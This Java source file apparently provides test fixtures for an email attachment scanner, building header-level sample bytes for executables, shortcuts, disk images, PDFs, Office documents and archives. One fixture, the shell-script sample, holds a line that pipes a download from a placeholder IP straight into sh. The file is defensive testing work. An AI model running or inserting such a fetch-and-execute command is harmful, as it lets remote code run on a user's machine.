/*
 * Copyright 2026 Mailfort contributors
 * SPDX-License-Identifier: Apache-2.0
 */
package dev.mailfort.scanning.attachments;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Random;
import java.util.zip.GZIPOutputStream;

/** File contents for the tests: the first bytes that matter, no working malware. */
final class Samples {

    private Samples() {
    }

    /** A DOS header pointing at a PE header for x86-64, then zeros: enough for anything that reads magic. */
    static byte[] peExecutable() {
        ByteBuffer file = ByteBuffer.allocate(1024).order(ByteOrder.LITTLE_ENDIAN);
        file.put(0, (byte) 'M').put(1, (byte) 'Z');
        file.putShort(2, (short) 0x90);
        file.putInt(0x3C, 0x80);
        file.put(0x4E, "This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII));
        file.put(0x80, new byte[] {'P', 'E', 0, 0});
        file.putShort(0x84, (short) 0x8664);
        return file.array();
    }

    static byte[] elfExecutable() {
        byte[] file = new byte[256];
        byte[] ident = {0x7F, 'E', 'L', 'F', 2, 1, 1, 0};
        System.arraycopy(ident, 0, file, 0, ident.length);
        file[16] = 2;
        file[18] = 0x3E;
        return file;
    }

    static byte[] machOExecutable() {
        byte[] file = new byte[256];
        byte[] magic = {(byte) 0xCF, (byte) 0xFA, (byte) 0xED, (byte) 0xFE, 7, 0, 0, 1};
        System.arraycopy(magic, 0, file, 0, magic.length);
        return file;
    }

    static byte[] shellScript() {
        return "#!/bin/sh\ncurl http://198.51.100.7/x | sh\n".getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] windowsShortcut() {
        byte[] file = new byte[76];
        byte[] header = {0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, (byte) 0xC0, 0, 0, 0, 0, 0, 0, 0x46};
        System.arraycopy(header, 0, file, 0, header.length);
        return file;
    }

    /** 32 KiB of system area, then an ISO 9660 primary volume descriptor. */
    static byte[] isoImage() {
        byte[] file = new byte[0x8800];
        file[0x8000] = 1;
        System.arraycopy("CD001".getBytes(StandardCharsets.US_ASCII), 0, file, 0x8001, 5);
        file[0x8006] = 1;
        return file;
    }

    static byte[] pdf() {
        StringBuilder pdf = new StringBuilder("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n");
        pdf.append("1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n");
        pdf.append("2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n");
        for (int i = 0; i < 200; i++) {
            pdf.append("% filler line ").append(i).append(" lorem ipsum dolor sit amet\n");
        }
        pdf.append("trailer << /Root 1 0 R >>\n%%EOF\n");
        return pdf.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] png() {
        return new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 'I', 'H', 'D', 'R',
            0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0};
    }

    static byte[] html() {
        return "<!DOCTYPE html><html><body><p>Hello</p></body></html>".getBytes(StandardCharsets.US_ASCII);
    }

    /** A Word document as a zip: content types, relationships, the document part. */
    static ZipBuilder docxParts() {
        return ZipBuilder.zip()
                .deflated("[Content_Types].xml", ("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas"
                        + ".openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" "
                        + "ContentType=\"application/xml\"/></Types>").getBytes(StandardCharsets.US_ASCII))
                .deflated("_rels/.rels", "<?xml version=\"1.0\"?><Relationships/>".getBytes(StandardCharsets.US_ASCII))
                .deflated("word/document.xml", ("<?xml version=\"1.0\"?><w:document><w:body>"
                        + "<w:p><w:r><w:t>Quarterly figures</w:t></w:r></w:p>".repeat(200)
                        + "</w:body></w:document>").getBytes(StandardCharsets.US_ASCII));
    }

    static byte[] docx() {
        return docxParts().bytes();
    }

    static byte[] docm() {
        return docxParts().deflated("word/vbaProject.bin", CompoundFileBuilder.wordDocumentWithMacros().bytes())
                .bytes();
    }

    static byte[] random(int size, long seed) {
        byte[] data = new byte[size];
        new Random(seed).nextBytes(data);
        return data;
    }

    static byte[] gzip(byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A ustar archive of the given name/content pairs. */
    static byte[] tar(String[] names, byte[][] contents) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int i = 0; i < names.length; i++) {
            byte[] header = new byte[512];
            byte[] name = names[i].getBytes(StandardCharsets.UTF_8);
            System.arraycopy(name, 0, header, 0, name.length);
            putOctal(header, 100, 8, 0644);
            putOctal(header, 108, 8, 0);
            putOctal(header, 116, 8, 0);
            putOctal(header, 124, 12, contents[i].length);
            putOctal(header, 136, 12, 0);
            header[156] = '0';
            System.arraycopy("ustar\u000000".getBytes(StandardCharsets.US_ASCII), 0, header, 257, 8);
            for (int j = 148; j < 156; j++) {
                header[j] = ' ';
            }
            long sum = 0;
            for (byte b : header) {
                sum += b & 0xFF;
            }
            putOctal(header, 148, 7, sum);
            out.writeBytes(header);
            out.writeBytes(contents[i]);
            out.writeBytes(new byte[(512 - contents[i].length % 512) % 512]);
        }
        out.writeBytes(new byte[1024]);
        return out.toByteArray();
    }

    /** A TNEF stream (winmail.dat) with one attachment: its title, then its data. */
    static byte[] tnef(String title, byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteBuffer start = ByteBuffer.allocate(6).order(ByteOrder.LITTLE_ENDIAN);
        start.putInt(0x223E9F78).putShort((short) 0x1234);
        out.writeBytes(start.array());
        tnefAttribute(out, 1, 0x00089006, new byte[] {1, 0, 0, 0});
        tnefAttribute(out, 2, 0x00069002, new byte[14]);
        tnefAttribute(out, 2, 0x00018010, (title + "\u0000").getBytes(StandardCharsets.UTF_8));
        tnefAttribute(out, 2, 0x0006800F, content);
        return out.toByteArray();
    }

    private static void tnefAttribute(ByteArrayOutputStream out, int level, int id, byte[] data) {
        ByteBuffer header = ByteBuffer.allocate(9).order(ByteOrder.LITTLE_ENDIAN);
        header.put((byte) level).putInt(id).putInt(data.length);
        out.writeBytes(header.array());
        out.writeBytes(data);
        int checksum = 0;
        for (byte b : data) {
            checksum += b & 0xFF;
        }
        out.write(checksum & 0xFF);
        out.write((checksum >> 8) & 0xFF);
    }

    private static void putOctal(byte[] header, int offset, int length, long value) {
        String digits = String.format("%0" + (length - 1) + "o", value);
        System.arraycopy(digits.getBytes(StandardCharsets.US_ASCII), 0, header, offset, length - 1);
        header[offset + length - 1] = 0;
    }
}
